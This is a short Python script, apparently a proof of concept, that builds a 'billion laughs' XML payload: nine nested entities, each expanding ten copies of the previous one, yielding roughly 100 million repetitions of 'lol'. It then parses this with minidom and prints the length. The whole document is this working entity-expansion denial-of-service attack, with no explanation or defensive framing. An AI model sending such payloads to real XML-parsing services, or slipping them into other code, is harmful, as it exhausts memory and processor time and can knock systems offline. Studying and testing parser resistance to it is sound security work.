from xml.dom import minidom
decl = ['<!ENTITY e0 "lol">']
for i in range(1, 9):
    decl.append('<!ENTITY e%d "%s">' % (i, ('&e%d;' % (i - 1)) * 10))
doc = '<!DOCTYPE d [' + ''.join(decl) + ']><d>&e8;</d>'
print(len(minidom.parseString(doc).documentElement.toxml()))
